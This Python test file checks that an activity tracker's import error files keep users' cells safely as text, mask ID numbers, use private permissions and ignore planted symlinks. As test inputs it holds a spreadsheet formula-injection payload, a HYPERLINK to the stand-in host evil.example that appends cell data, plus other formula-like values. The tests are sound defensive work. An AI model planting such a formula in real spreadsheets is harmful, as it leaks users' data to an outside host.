"""The error file: the user's own cells plus 原行号 and 错误说明, safe to open in Excel, private, and
importable again once corrected."""

from __future__ import annotations

import csv
import datetime as dt
import os
import stat
import sys
from pathlib import Path

from openpyxl import Workbook, load_workbook

sys.path.insert(0, str(Path(__file__).resolve().parent / "fixtures" / "records"))
from records_support import CODE, counts, id_number, write_csv

from tracker.records import import_file

HEAD = ["日期", "活动类型", "服务对象编号", "参与人数", "备注"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_xlsx_error_file_keeps_the_cells_dates_and_is_reimportable(roster_ws, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ws = roster_ws
    d = tmp_path / "in"
    d.mkdir()
    src = d / "台账.xlsx"
    wb = Workbook()
    sh = wb.active
    sh.append(["2024年7月活动台账"])
    sh.append(HEAD)
    sh.append([dt.date(2024, 7, 1), "上门探访", "P001", None, "正常"])
    sh.append([dt.date(2024, 7, 2), "培训", None, -3, None])  # bad: negative participants
    sh.cell(row=4, column=5).value = FORMULA  # text that looks like a formula (typed after an apostrophe)
    sh.cell(row=4, column=5).data_type = "s"
    sh.append([dt.date(2024, 7, 3), "上门探访", "P404", None, "@SUM(1)"])  # bad: not in the roster
    wb.save(src)
    before = counts(ws)
    r = import_file(ws, src, CODE)
    assert not r.committed and r.invalid_rows == 2 and counts(ws) == before
    out = r.error_file
    assert out == d / "台账.错误说明.xlsx"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert sorted(p.name for p in d.iterdir()) == ["台账.xlsx", "台账.错误说明.xlsx"]  # no temporary file left
    got = load_workbook(out)  # not read-only: cell types are checked
    sheet = got.worksheets[0]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == [*HEAD, "原行号", "错误说明"]
    assert rows[1] == [dt.datetime(2024, 7, 1), "上门探访", "P001", None, "正常", 3, None]
    assert rows[2][:6] == [dt.datetime(2024, 7, 2), "培训", None, "-3", FORMULA, 4]
    assert rows[2][6] == "[参与人数] 不能为负数（填写的是 -3）"
    assert rows[3][4] == "@SUM(1)" and rows[3][5] == 5 and "P404" in rows[3][6]
    # no cell is a formula: what the user typed is text
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert sheet.cell(row=2, column=1).number_format == "yyyy-mm-dd"
    # corrected in place and imported again: 原行号 and 错误说明 are not read
    sheet.cell(row=3, column=4).value = 12
    sheet.cell(row=4, column=3).value = "P002"
    got.save(out)
    r2 = import_file(ws, out, CODE)
    assert (r2.imported, r2.invalid_rows, r2.committed) == (3, 0, True)
    assert r2.diff.new_rows[1].values == {"日期": "2024-07-02", "活动类型": "培训", "参与人数": "12",
                                          "备注": FORMULA}


def test_csv_error_file_neutralises_formulas_and_masks_id_numbers(roster_ws, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ws = roster_ws
    good = id_number(birth="19470707", seq="063")
    wrong = good[:17] + ("0" if good[17] != "0" else "1")
    rows = [["服务对象编号", "姓名", "身份证号", "人群", "备注"],
            ["P010", "钱七", wrong, "留守独居等困难老人", "+1-2"],
            ["P011", "孙八", good, "留守独居等困难老人", "\t=1+1"],
            ["P012", "周九", id_number(birth="19480808", seq="071"), "无此人群", "-3"]]
    r = import_file(ws, write_csv(tmp_path / "r.csv", rows), CODE)
    assert r.invalid_rows == 2 and not r.committed  # P010: check digit; P012: population
    assert stat.S_IMODE(r.error_file.stat().st_mode) == 0o600
    with r.error_file.open(encoding="utf-8-sig", newline="") as f:
        got = list(csv.reader(f))
    assert got[0] == [*rows[0], "原行号", "错误说明"]
    assert got[1][:6] == ["P010", "钱*", wrong[:6] + "********" + wrong[-4:], "留守独居等困难老人", "'+1-2", "2"]
    assert got[2][4] == "'\t=1+1" and got[3][4] == "-3"  # a plain number is not a formula


def test_a_planted_symlink_is_never_followed(roster_ws, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    ws = roster_ws
    victim = tmp_path / "victim.txt"
    victim.write_text("不能被覆盖", "utf-8")
    src = write_csv(tmp_path / "a.csv", [HEAD, ["2024-07-01", "培训", "", "x", ""]])
    # the names the old code used for its temporary file, and the error file itself
    for name in ("a.错误说明.csv.part", "a.错误说明.csv"):
        (tmp_path / name).symlink_to(victim)
    r = import_file(ws, src, CODE)
    assert r.invalid_rows == 1
    assert victim.read_text("utf-8") == "不能被覆盖"
    out = tmp_path / "a.错误说明.csv"
    assert not out.is_symlink() and "不是数字" in out.read_text("utf-8-sig")
    assert not [p for p in os.listdir(tmp_path) if p.startswith(".a.错误说明")]  # no temporary file left
